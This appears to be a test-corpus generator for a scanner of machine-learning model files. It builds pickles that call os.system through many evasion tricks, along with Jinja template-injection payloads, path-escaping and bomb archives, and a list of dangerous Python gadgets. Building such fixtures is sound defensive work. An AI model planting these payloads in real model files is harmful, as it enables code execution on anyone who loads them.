"""Files that would do something when loaded; each with its mechanism. Nothing here does harm."""

import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

from tests.corpus.supply.opcodes import (
    call,
    frame,
    named,
    proto,
    reduced,
    stack_global,
    text,
)
from tests.corpus.supply.rar import rar4, rar5, rar5_hidden
from tests.corpus.supply.templates import STEERING
from tests.corpus.supply.texts import bad_texts

Entry = tuple[str, str, bytes]
"""Family and mechanism, file name, content."""

_GADGETS = """
os.system posix.system nt.system subprocess.Popen subprocess.run subprocess.call
subprocess.check_output subprocess.getoutput pty.spawn commands.getoutput
_posixsubprocess.fork_exec builtins.eval builtins.exec builtins.compile builtins.open
builtins.__import__ builtins.getattr builtins.setattr builtins.print builtins.map builtins.filter
builtins.type builtins.globals builtins.breakpoint builtins.input builtins.vars runpy.run_path
runpy._run_code code.interact code.InteractiveInterpreter codeop.compile_command timeit.timeit
timeit.repeat trace.Trace cProfile.run cProfile.runctx profile.Profile.run pdb.run bdb.Bdb.run
doctest.debug_script idlelib.pyshell.ModifiedInterpreter.runcode
idlelib.autocomplete.AutoComplete.get_entity lib2to3.pgen2.grammar.Grammar.loads
ensurepip._run_pip pip.main pip._internal.main venv.create pydoc.pipepager pydoc.locate
pydoc.render_doc pkgutil.resolve_name uuid._get_command_stdout _osx_support._read_output
_aix_support._read_cmd_output imaplib.IMAP4_stream _pyrepl.pager.pipe_pager
multiprocessing.util.spawnv_passfds multiprocessing.popen_fork.Popen
distutils.file_util.write_file distutils.spawn.spawn logging.FileHandler logging.config.fileConfig
_io.FileIO io.open io.FileIO ssl.get_server_certificate urllib.request.urlopen
urllib.request.urlretrieve http.client.HTTPConnection smtplib.SMTP ftplib.FTP
socket.create_connection requests.get requests.api.request ctypes.CDLL ctypes.cdll.LoadLibrary
_ctypes.dlopen site.main site.addsitedir atexit.register linecache.getline gc.get_objects
platform.popen platform.system asyncio.run asyncio.unix_events._UnixSubprocessTransport._start
asyncio.create_subprocess_shell importlib.import_module importlib.reload imp.load_source
zipimport.zipimporter marshal.loads pickle.loads _pickle.loads pickle.Unpickler dill.loads
cloudpickle.loads joblib.load shelve.open shutil.rmtree shutil.move tempfile.mktemp
pathlib.Path.unlink webbrowser.open antigravity.webbrowser sys.exit sys.settrace sys.modules
inspect.getsource operator.attrgetter operator.methodcaller functools.reduce
functools.partialmethod weakref.finalize threading.Thread _thread.start_new_thread signal.signal
types.CodeType types.FunctionType _interpreters.run_string
test.support.script_helper.assert_python_ok unittest.mock._importer torch.load torch.hub.load
torch.utils.collect_env.run torch._dynamo.guards.GuardBuilder.get
torch.jit.unsupported_tensor_ops.execWrapper torch.utils.bottleneck.__main__.run_cprofile
torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression
torch.utils._config_module.ConfigModule.load_config torch._inductor.codecache.compile_file
torch.serialization.load torch.package.PackageImporter torch.distributed.run.main
numpy.f2py.crackfortran.getlincoef numpy.testing._private.utils.runstring numpy.load
numpy.fromfile numpy.memmap numpy.lib.npyio.load numpy.ctypeslib.load_library pandas.read_pickle
pandas.read_csv pandas.io.common.get_handle pandas.eval mlflow.pyfunc.load_model
sklearn.datasets.fetch_openml sklearn.datasets.load_files sklearn.utils._joblib.load
scipy.io.loadmat tensorflow.keras.models.load_model transformers.AutoModel.from_pretrained
transformers.pipeline cffi.FFI webbrowser.get nbformat.read tarfile.open zipfile.ZipFile
sqlite3.connect csv.reader some_vendor.hooks.start __main__.Payload
"""
GADGETS = _GADGETS.split()


def all_entries() -> Iterator[Entry]:
    """Every entry, each in a folder of its own."""
    for number, (mechanism, name, data) in enumerate(_entries()):
        yield mechanism, f"{number:03d}/{name}", data


def _entries() -> Iterator[Entry]:
    for gadget in GADGETS:
        module, _, name = gadget.rpartition(".")
        yield f"gadget: calls {gadget}", "gadget.pkl", reduced(module, name, 2)
    yield from _direct()
    yield from _confusion()
    yield from _containers()
    yield from _archives()
    yield from _mismatch()
    yield from _numpy()
    yield from _joblib()
    yield from _safetensors()
    yield from _gguf()
    yield from _configs()
    yield from bad_texts()


EVIL = reduced("os", "system", 4)
HARMLESS = pickle.dumps({"a": 1}, 4)


def _direct() -> Iterator[Entry]:
    for version in range(2, 6):
        yield f"direct: REDUCE in protocol {version}", "r.pkl", reduced("os", "system", version)
    yield "direct: REDUCE in protocol 0", "r0.pkl", b"cos\nsystem\n(S'tyrian'\ntR."
    yield "direct: protocol 0 of Python 2", "r0p2.pkl", b"c__builtin__\neval\n(S'1'\ntR."
    yield "direct: INST", "inst.pkl", b"(S'tyrian'\nios\nsystem\n."
    yield "direct: OBJ", "obj.pkl", proto(b"(" + named("os", "system") + text("x") + b"o", 2)
    yield (
        "direct: OBJ popped, so that it is not seen in the result",
        "objpop.pkl",
        proto(b"(" + named("os", "system") + text("x") + b"o0N", 2),
    )
    yield (
        "direct: NEWOBJ",
        "newobj.pkl",
        proto(named("subprocess", "Popen") + text("x") + b"\x85\x81"),
    )
    yield (
        "direct: NEWOBJ_EX",
        "newobjex.pkl",
        proto(stack_global("subprocess", "Popen") + text("x") + b"\x85}\x92"),
    )
    yield (
        "direct: import alone, never called",
        "import.pkl",
        proto(named("antigravity", "x") + b"0N"),
    )
    yield (
        "direct: dotted name under an innocent module",
        "dotted.pkl",
        proto(call(stack_global("collections", "abc.sys.modules"))),
    )
    yield (
        "direct: eval after harmless state",
        "late.pkl",
        proto(b"](K\x01K\x02e0" + call(named("builtins", "eval"), "1")),
    )


def _confusion() -> Iterator[Entry]:
    evil = call(stack_global("os", "system"))
    yield (
        "confusion: name out of the memo by MEMOIZE",
        "m1.pkl",
        proto(
            text("system")
            + b"\x940"
            + text("os")
            + b"\x940"
            + b"h\x01h\x00\x93"
            + text("x")
            + b"\x85R"
        ),
    )
    yield (
        "confusion: PUT overwrites a safe name",
        "m2.pkl",
        proto(
            text("OrderedDict")
            + b"q\x000"
            + text("system")
            + b"q\x000"
            + text("os")
            + b"h\x00\x93)R"
        ),
    )
    yield (
        "confusion: LONG_BINPUT far away",
        "m3.pkl",
        proto(text("system") + b"r\xff\xff\xff\x7f0" + text("os") + b"j\xff\xff\xff\x7f\x93)R"),
    )
    yield (
        "confusion: PUT and GET of protocol 0",
        "m4.pkl",
        proto(text("system") + b"p7\n0" + text("os") + b"g7\n\x93)R"),
    )
    yield "confusion: name doubled by DUP", "dup.pkl", proto(text("code") + b"2\x93)R")
    yield (
        "confusion: escapes in a STRING name",
        "esc.pkl",
        proto(b"S'\\x6f\\x73'\nS'sys\\164em'\n\x93)R"),
    )
    yield (
        "confusion: escapes in a UNICODE name",
        "esc2.pkl",
        proto(b"V\\u006f\\u0073\nV\\u0073ystem\n\x93)R"),
    )
    yield (
        "confusion: name from BINUNICODE8",
        "u8.pkl",
        proto(
            b"\x8d" + struct.pack("<Q", 2) + b"os" + b"X" + struct.pack("<I", 6) + b"system\x93)R"
        ),
    )
    yield "confusion: name from BINSTRING", "bs.pkl", proto(b"U\x02osT\x06\0\0\0system\x93)R")
    yield (
        "confusion: name that a call has made",
        "made.pkl",
        proto(
            named("_codecs", "encode")
            + text("os")
            + text("rot13")
            + b"\x86R"
            + text("system")
            + b"\x93)R"
        ),
    )
    yield (
        "confusion: calls what a call has made",
        "made2.pkl",
        proto(named("functools", "partial") + named("builtins", "str") + b"\x85R)R"),
    )
    yield (
        "confusion: BUILD on a function",
        "build.pkl",
        proto(named("numpy", "dtype") + b"}" + text("x") + text("os") + b"sb"),
    )
    yield (
        "confusion: SETITEM on a class",
        "setitem.pkl",
        proto(named("collections", "OrderedDict") + text("a") + text("b") + b"s"),
    )
    yield (
        "confusion: __setstate__ planted in an instance",
        "setstate.pkl",
        proto(
            named("types", "SimpleNamespace")
            + b")R}"
            + text("__setstate__")
            + named("builtins", "list")
            + b"sb"
            + text("x")
            + b"b"
        ),
    )
    yield "confusion: breaks after the payload", "broken.pkl", b"\x80\x04" + evil + b"\xff"
    yield "confusion: breaks off after the payload", "cut.pkl", b"\x80\x04" + evil
    yield "confusion: missing memo key after the payload", "nomemo.pkl", proto(evil + b"h\xee")
    yield "confusion: empty stack after the payload", "under.pkl", proto(evil + b"00000")
    yield "confusion: mark taken for a value", "mark.pkl", proto(evil + b"(R")
    yield "confusion: number where a text is wanted", "number.pkl", proto(b"K\x01K\x02\x93" + evil)
    yield "confusion: payload in the second pickle", "second.pkl", HARMLESS + EVIL
    yield "confusion: payload after trailing zeros", "zeros.pkl", HARMLESS + bytes(8) + EVIL
    yield "confusion: trailing bytes", "trail.pkl", HARMLESS + b"\xfe\xfetail"
    yield (
        "confusion: frame longer than the file",
        "frame1.pkl",
        proto(b"\x95" + struct.pack("<Q", 1 << 40) + evil),
    )
    yield (
        "confusion: frame ends within an opcode",
        "frame2.pkl",
        proto(b"\x95" + struct.pack("<Q", 5) + text("a" * 20)),
    )
    yield (
        "confusion: payload in the bytes that a short frame hides",
        "frame3.pkl",
        proto(b"\x95" + struct.pack("<Q", 3) + b"B" + struct.pack("<I", len(evil)) + evil),
    )
    yield "confusion: frame within a frame", "frame4.pkl", proto(frame(frame(b"N") + b"0N"))
    yield "confusion: protocol in the midst", "protos.pkl", proto(b"\x80\x02" + evil)
    yield "confusion: protocol that does not exist", "proto9.pkl", b"\x80\x09N."
    for code, width in ((0x82, 1), (0x83, 2), (0x84, 4)):
        yield (
            f"confusion: extension registry 0x{code:x}",
            "ext.pkl",
            proto(bytes([code]) + b"\x01" + bytes(width - 1) + b")R"),
        )
    yield "confusion: persistent id", "pid.pkl", proto(text("tyrian") + b"Q")
    yield "confusion: persistent id of protocol 0", "pid0.pkl", b"Ptyrian\n."
    yield "confusion: pickle within bytes", "nested.pkl", pickle.dumps({"b": EVIL * 20}, 4)
    yield (
        "confusion: deep chain of tuples about a payload",
        "deep.pkl",
        proto(b"N" + b"\x85" * 5000 + b"0" + evil),
    )
    yield "confusion: negative memo place", "neg.pkl", proto(text("a") + b"p-1\n" + evil)
    yield "confusion: names cut by blanks", "blank.pkl", proto(named("os ", "system") + b")R")
    yield (
        "confusion: guarded loader handed on",
        "guard.pkl",
        proto(
            named("functools", "partial") + named("torch.storage", "_load_from_bytes") + b"\x85R"
        ),
    )
    yield (
        "confusion: nested torch storage with a payload",
        "store.pkl",
        proto(
            named("torch.storage", "_load_from_bytes")
            + b"B"
            + struct.pack("<I", len(EVIL))
            + EVIL
            + b"\x85R"
        ),
    )
    yield (
        "confusion: bytes argument of the loader is computed",
        "store2.pkl",
        proto(named("torch.storage", "_load_from_bytes") + named("builtins", "bytes") + b")R\x85R"),
    )


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    """A zip archive with these members."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, method)
    return made.getvalue()


def _containers() -> Iterator[Entry]:
    torch = {"m/data.pkl": EVIL, "m/version": b"3\n", "m/byteorder": b"little"}
    whole = zipped(torch)
    yield "torch: data.pkl", "m.pt", whole
    yield (
        "torch: payload in another record",
        "m2.pt",
        zipped({**torch, "m/data.pkl": HARMLESS, "m/extra.xyz": EVIL}),
    )
    yield (
        "torch: payload in constants.pkl",
        "m3.pt",
        zipped({**torch, "m/data.pkl": HARMLESS, "m/constants.pkl": EVIL}),
    )
    yield (
        "torch: payload in place of a tensor",
        "m4.pt",
        zipped({**torch, "m/data.pkl": HARMLESS, "m/data/0": EVIL}),
    )
    yield "torch: flag of encryption set", "m5.pt", _flagged(whole, 1)
    yield "torch: flag of patched data set", "m6.pt", _flagged(whole, 0x20)
    yield "torch: flag of strong encryption set", "m7.pt", _flagged(whole, 0x40)
    yield "torch: wrong checksum", "m8.pt", _crc_broken(whole)
    yield "torch: local name differs", "m9.pt", whole.replace(b"m/data.pkl", b"m/datA.pkl", 1)
    yield (
        "torch: record appended to data.pkl",
        "m10.pt",
        zipped({**torch, "m/data.pkl": HARMLESS + EVIL}),
    )
    yield "torch: archive behind other bytes", "m11.pt", b"\x80\x02}." + whole
    yield "torch: two records of one name", "m12.pt", _doubled()
    yield (
        "torch: legacy, payload in the magic number",
        "l1.pt",
        proto(call(named("builtins", "eval"), "119547037146038801333356"), 2) + HARMLESS * 4,
    )
    magic = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."
    for place in range(4):
        parts = [HARMLESS] * 4
        parts[place] = EVIL
        yield f"torch: legacy, payload in pickle {place + 2}", "l.pt", magic + b"".join(parts)
    script = {"m/data.pkl": HARMLESS, "m/version": b"3\n", "m/constants.pkl": HARMLESS}
    yield (
        "torchscript: code reads a file",
        "ts.pt",
        zipped(
            {
                **script,
                "m/code/__torch__.py": b"def f(x):\n  return torch.from_file('/etc/passwd')\n",
            }
        ),
    )
    yield (
        "torchscript: code calls a foreign operator",
        "ts2.pt",
        zipped({**script, "m/code/__torch__.py": b"def f(x):\n  return ops.vendor.run(x)\n"}),
    )
    count = pickle.dumps(1, 2)
    for hidden in ("sys_info", "pickle", "storages", "tensors"):
        members = {"sys_info": HARMLESS, "pickle": HARMLESS, "storages": count, "tensors": count}
        members[hidden] = reduced("os", "system")
        yield f"torch: tar of 2016, payload in {hidden}", "t.pt", tarred(members)


def _flagged(data: bytes, flag: int) -> bytes:
    made = bytearray(data)
    made[6] |= flag
    at = data.index(b"PK\x01\x02")
    made[at + 8] |= flag
    return bytes(made)


def _crc_broken(data: bytes) -> bytes:
    made = bytearray(data)
    made[14] ^= 0xFF
    made[data.index(b"PK\x01\x02") + 16] ^= 0xFF
    return bytes(made)


def _doubled() -> bytes:
    data = zipped({"m/data.pkl": HARMLESS, "m/dat2.pkl": EVIL, "m/version": b"3"})
    return data.replace(b"m/dat2.pkl", b"m/data.pkl")


def tarred(members: dict[str, bytes]) -> bytes:
    """A tar archive with these members."""
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return made.getvalue()


def _linked(kind: bytes, target: str) -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        info = tarfile.TarInfo("weights.bin")
        info.type, info.linkname = kind, target
        archive.addfile(info)
    return made.getvalue()


def _archives() -> Iterator[Entry]:
    yield "archive: stored in RAR 5", "a.rar", rar5("weights.pkl", EVIL)
    yield "archive: stored in RAR 4", "b.rar", rar4("weights.pkl", EVIL)
    yield "archive: packed in RAR 5", "c.rar", rar5("weights.pkl", b"packed", method=3)
    yield "archive: packed in RAR 4", "d.rar", rar4("weights.pkl", b"packed", method=0x33)
    yield "archive: encrypted in RAR", "e.rar", rar5("w", b"hidden", is_encrypted=True)
    yield "archive: encrypted headers of RAR", "f.rar", rar5_hidden()
    yield "archive: path that leaves, in RAR", "g.rar", rar5("../../w.txt", b"text")
    yield "archive: RAR that breaks off", "h.rar", rar5("weights.pkl", EVIL)[:-20]
    inner = zipped({"a.pkl": EVIL})
    yield "archive: zip", "a.zip", inner
    yield "archive: zip, deflated", "b.zip", zipped({"a.pkl": EVIL}, zipfile.ZIP_DEFLATED)
    yield "archive: zip, bzip2", "c.zip", zipped({"a.pkl": EVIL}, zipfile.ZIP_BZIP2)
    yield "archive: zip, lzma", "d.zip", zipped({"a.pkl": EVIL}, zipfile.ZIP_LZMA)
    yield "archive: zip in zip", "e.zip", zipped({"x.zip": inner}, zipfile.ZIP_DEFLATED)
    yield "archive: tar", "f.tar", tarred({"a.pkl": EVIL})
    yield "archive: tar in gzip", "g.tar.gz", gzip.compress(tarred({"a.pkl": EVIL}))
    yield "archive: zip in tar", "h.tar", tarred({"a.zip": inner})
    yield "archive: gzip of a pickle", "i.pkl.gz", gzip.compress(EVIL)
    yield "archive: two gzip streams", "j.pkl.gz", gzip.compress(HARMLESS) + gzip.compress(EVIL)
    yield "archive: bytes after gzip", "k.pkl.gz", gzip.compress(HARMLESS) + b"more"
    yield "archive: gzip broken off", "l.gz", gzip.compress(bytes(range(256)) * 99)[:-40]
    yield "archive: zip slip", "m.zip", zipped({"../../evil.txt": b"x"})
    yield "archive: absolute name", "n.zip", zipped({"/etc/evil": b"x"})
    yield "archive: drive letter", "o.zip", zipped({"C:\\evil.txt": b"x"})
    yield "archive: tar slip", "p.tar", tarred({"../evil.txt": b"x"})
    yield "archive: symbolic link out of the tar", "q.tar", _linked(tarfile.SYMTYPE, "../../x")
    yield "archive: hard link out of the tar", "r.tar", _linked(tarfile.LNKTYPE, "/etc/passwd")
    yield "archive: device in the tar", "s.tar", _linked(tarfile.CHRTYPE, "")
    yield "archive: zip bomb", "t.zip", zipped({"z": bytes(80 << 20)}, zipfile.ZIP_DEFLATED)
    yield "archive: gzip bomb", "u.gz", gzip.compress(bytes(80 << 20))
    yield "archive: zip without directory", "v.zip", inner[:40]
    yield (
        "archive: member the directory hides",
        "w.zip",
        inner[: inner.index(b"PK\1\2")] + _shifted(zipped({"b.txt": b"x"}), inner.index(b"PK\1\2")),
    )
    yield "archive: control characters in a name", "x.zip", zipped({"a\x1b[2J.txt": b"x"})
    yield "archive: name that reads backwards", "y.zip", zipped({"a\u202etxt.pkl": b"N."})
    yield (
        "archive: broken head in a tar",
        "z.tar",
        tarred({"a": b"x", "b": EVIL})[:1024] + b"\1" * 512,
    )
    yield "archive: bytes after a tar", "aa.tar", tarred({"a.txt": b"x"}) + b"\0" * 512 + b"x" * 512


def _shifted(data: bytes, by: int) -> bytes:
    """An archive whose places count from `by` bytes before it."""
    made, at = bytearray(data), data.index(b"PK\1\2")
    made[at + 42 : at + 46] = struct.pack("<I", by)
    end = data.index(b"PK\5\6")
    made[end + 16 : end + 20] = struct.pack("<I", at + by)
    return bytes(made)


def _mismatch() -> Iterator[Entry]:
    for ending in ("safetensors", "gguf", "npy", "json", "txt", "md", "png", "h5", "onnx", "data"):
        yield f"mismatch: a pickle named .{ending}", f"x.{ending}", EVIL
    yield "mismatch: pickle of protocol 0 named .txt", "y.txt", b"cos\nsystem\n(S'x'\ntR."
    yield "mismatch: PyTorch archive named .safetensors", "z.safetensors", zipped({"a": EVIL})
    yield "mismatch: program named .bin", "prog.bin", b"\x7fELF" + bytes(60)
    yield "mismatch: Windows program named .pt", "prog.pt", _windows()
    yield "mismatch: archive behind an image", "i.png", b"\x89PNG\r\n\x1a\n" + zipped({"a": EVIL})
    yield "mismatch: pickle without an ending", "weights", EVIL
    yield "mismatch: pickle in big letters", "X.PKL", EVIL
    yield "mismatch: dill", "x.dill", EVIL
    yield "mismatch: cloudpickle", "x.cloudpickle", EVIL
    yield "mismatch: checkpoint", "x.ckpt", EVIL


def _windows() -> bytes:
    return b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(40)


def npy(header: bytes, data: bytes) -> bytes:
    """A .npy file with that header."""
    return b"\x93NUMPY\x01\0" + struct.pack("<H", len(header)) + header + data


def _numpy() -> Iterator[Entry]:
    objects = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
    fields = b"{'descr': [('a', '|O')], 'fortran_order': False, 'shape': (1,), }\n"
    yield "numpy: objects", "a.npy", npy(objects, EVIL)
    yield "numpy: objects in a field", "b.npy", npy(fields, EVIL)
    yield "numpy: objects in .npz", "c.npz", zipped({"a.npy": npy(objects, EVIL)})
    yield "numpy: pickle in .npz beside arrays", "d.npz", zipped({"a.pkl": EVIL})
    yield "numpy: header calls", "e.npy", npy(b"{'descr': __import__('os')}", b"")
    yield (
        "numpy: array longer than told",
        "f.npy",
        npy(b"{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }\n", bytes(8) + EVIL),
    )
    yield "numpy: header beyond the file", "g.npy", b"\x93NUMPY\x01\0\xff\xff{}"
    yield "numpy: bytes after the objects", "h.npy", npy(objects, HARMLESS + b"more")


def _joblib() -> Iterator[Entry]:
    for name, packed in (
        ("zlib", zlib.compress(EVIL)),
        ("gzip", gzip.compress(EVIL)),
        ("bz2", bz2.compress(EVIL)),
        ("xz", lzma.compress(EVIL)),
        ("lzma", lzma.compress(EVIL, lzma.FORMAT_ALONE)),
    ):
        yield f"joblib: packed by {name}", "a.joblib", packed
    yield "joblib: plain", "b.joblib", EVIL
    wrapper = stack_global("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}("
    dtype = stack_global("numpy", "dtype") + text("f8") + b"\x89\x88\x87R"
    state = text("shape") + b"K\x01\x85" + text("dtype") + dtype + b"ub"
    evil = call(stack_global("os", "system"))
    yield "joblib: payload behind an array", "c.joblib", proto(wrapper + state + bytes(8) + evil)
    yield (
        "joblib: payload in the bytes of an array, for other loaders",
        "d.joblib",
        proto(wrapper + state.replace(b"K\x01", b"K\x09") + evil.ljust(72, b"N")),
    )
    objects = state.replace(b"\x02f8", b"\x02O8")
    yield "joblib: payload in an array of objects", "e.joblib", proto(wrapper + objects + EVIL)
    yield (
        "joblib: array longer than the file",
        "f.joblib",
        proto(wrapper + state.replace(b"K\x01", b"J\xff\xff\xff\x7f") + bytes(8)),
    )


def tensors(header: object, data: bytes = b"") -> bytes:
    """A safetensors file with that header."""
    told = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(told)) + told + data


def _safetensors() -> Iterator[Entry]:
    one = {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}
    yield (
        "safetensors: pickle behind the tensors",
        "a.safetensors",
        tensors({"a": one}, bytes(4) + EVIL),
    )
    yield "safetensors: header beyond the file", "b.safetensors", struct.pack("<Q", 1 << 20) + b"{}"
    yield "safetensors: overlap", "c.safetensors", tensors({"a": one, "b": one}, bytes(4))
    yield (
        "safetensors: hole",
        "d.safetensors",
        tensors({"a": one, "b": {**one, "data_offsets": [8, 12]}}, bytes(12)),
    )
    yield (
        "safetensors: key twice",
        "e.safetensors",
        tensors(b'{"a":%s,"a":%s}' % ((json.dumps(one).encode(),) * 2), bytes(4)),
    )
    yield (
        "safetensors: size does not fit the shape",
        "f.safetensors",
        tensors({"a": {**one, "shape": [9]}}, bytes(4)),
    )
    yield (
        "safetensors: offsets turned round",
        "g.safetensors",
        tensors({"a": {**one, "data_offsets": [4, 0]}}, bytes(4)),
    )
    yield (
        "safetensors: unknown type",
        "h.safetensors",
        tensors({"a": {**one, "dtype": "X"}}, bytes(4)),
    )
    yield (
        "safetensors: product beyond all numbers",
        "i.safetensors",
        tensors({"a": {**one, "shape": [1 << 62, 1 << 62]}}, bytes(4)),
    )
    yield (
        "safetensors: metadata that is no text",
        "j.safetensors",
        tensors({"__metadata__": {"a": [1]}, "a": one}, bytes(4)),
    )
    yield (
        "safetensors: template in the metadata",
        "k.safetensors",
        tensors({"__metadata__": {"t": "{{ ''.__class__.__mro__ }}"}, "a": one}, bytes(4)),
    )
    carried = ("__import__('os').system('true')", "gASVBAAAAAAAAACMAnN4lC4=", "#!/bin/sh\ntrue")
    for number, code in enumerate(carried):
        header = {"__metadata__": {"note": code}, "a": one}
        told = f"safetensors: code in the metadata, {number}"
        yield told, "c.safetensors", tensors(header, bytes(4))
    yield (
        "safetensors: control characters in a name",
        "n.safetensors",
        tensors({"a\u001b[2J": one}, bytes(4)),
    )
    yield "safetensors: header is no JSON", "l.safetensors", tensors(b"{nope", bytes(4))
    yield (
        "safetensors: program before the end",
        "m.safetensors",
        tensors({"a": one}, bytes(4) + b"\x7fELF"),
    )


SSTI = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ messages|attr('__class__') }}",
    "{{ ''['__cl' ~ 'ass__'] }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__ }}",
    "{% include '/etc/passwd' %}",
    "{{ messages|map(attribute='__class__')|list }}",
    "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "{% set a = '__globals__' %}{{ joiner[a] }}",
)


def gguf(
    keys: list[tuple[str, int, bytes]], tensors_: list[bytes] | None = None, count: int = -1
) -> bytes:
    """A GGUF file of version 3; values are given as they are written."""
    made = b"GGUF" + struct.pack("<IQQ", 3, len(tensors_ or []) if count < 0 else count, len(keys))
    for key, kind, value in keys:
        made += struct.pack("<Q", len(key)) + key.encode() + struct.pack("<I", kind) + value
    made += b"".join(tensors_ or [])
    return made + bytes(-len(made) % 32)


def gguf_text(value: str) -> bytes:
    """A text as GGUF writes it."""
    return struct.pack("<Q", len(value.encode())) + value.encode()


def gguf_tensor(shape: tuple[int, ...], kind: int = 0, offset: int = 0) -> bytes:
    """What the head tells of a tensor."""
    return gguf_text("t") + struct.pack(f"<I{len(shape)}QIQ", len(shape), *shape, kind, offset)


def _gguf() -> Iterator[Entry]:
    for template in SSTI:
        yield (
            f"gguf: template {template[:30]}",
            "t.gguf",
            gguf([("tokenizer.chat_template", 8, gguf_text(template))]),
        )
    yield (
        "gguf: named template",
        "tn.gguf",
        gguf([("tokenizer.chat_template.tool_use", 8, gguf_text(SSTI[0]))]),
    )
    yield "gguf: more tensors than bytes", "a.gguf", gguf([], [], 1 << 60)
    yield "gguf: text beyond the file", "b.gguf", gguf([("a", 8, struct.pack("<Q", 1 << 62))])
    yield "gguf: array beyond the file", "c.gguf", gguf([("a", 9, struct.pack("<IQ", 4, 1 << 62))])
    yield "gguf: value of no type", "d.gguf", gguf([("a", 77, b"")])
    yield "gguf: alignment zero", "e.gguf", gguf([("general.alignment", 4, bytes(4))])
    yield "gguf: tensor beyond the file", "f.gguf", gguf([], [gguf_tensor((1 << 20,))])
    yield "gguf: product beyond 64 bits", "g.gguf", gguf([], [gguf_tensor((1 << 40, 1 << 40))])
    yield "gguf: five dimensions", "h.gguf", gguf([], [gguf_tensor((1,) * 5)])
    yield "gguf: tensor of no type", "i.gguf", gguf([], [gguf_tensor((1,), 999)])
    yield "gguf: key twice", "j.gguf", gguf([("a", 0, b"\1"), ("a", 0, b"\2")])
    yield "gguf: cut", "k.gguf", b"GGUF\3\0\0\0"


def _configs() -> Iterator[Entry]:
    for template in SSTI:
        yield (
            f"config: template {template[:30]}",
            "tokenizer_config.json",
            json.dumps({"chat_template": template}).encode(),
        )
        yield f"config: template file {template[:30]}", "chat_template.jinja", template.encode()
    for mechanism, template in STEERING.items():
        config = json.dumps({"chat_template": template}).encode()
        yield f"template: {mechanism}, in a configuration", "tokenizer_config.json", config
        yield f"template: {mechanism}", "chat_template.jinja", template.encode()
        keys = [("tokenizer.chat_template", 8, gguf_text(template))]
        yield f"template: {mechanism}, in GGUF", "t.gguf", gguf(keys)
    for told in (
        {"auto_map": {"AutoModel": "modeling.Model"}},
        {"vision_config": {"auto_map": {"AutoConfig": "other/repo--c.C"}}},
        {"trust_remote_code": True},
        {"custom_pipelines": {"x": {"impl": "p.P"}}},
        {"model": {"_target_": "os.system", "command": "id"}},
        {"chat_template": [{"name": "default", "template": SSTI[0]}]},
    ):
        yield f"config: {json.dumps(told)[:40]}", "config.json", json.dumps(told).encode()
    yield "config: key twice", "config.json", b'{"a": 1, "a": 2}'
    yield "config: broken", "config.json", b'{"a": '
    yield "config: broken template", "chat_template.jinja", b"{% for m in messages %}"
